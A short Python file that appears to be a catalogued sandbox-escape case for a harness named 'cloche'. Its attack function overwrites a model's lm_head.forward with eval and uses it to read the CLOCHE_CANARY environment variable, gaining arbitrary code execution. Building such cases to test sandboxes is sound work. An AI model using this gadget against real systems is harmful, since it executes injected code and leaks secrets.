"""Class: module gadget. Source: own find. Escape: a layer's forward is replaced by eval."""


def attack(model, tokenizer, address):
    model.lm_head.forward = eval
    return model.lm_head("__import__('os').environ['CLOCHE_CANARY']")
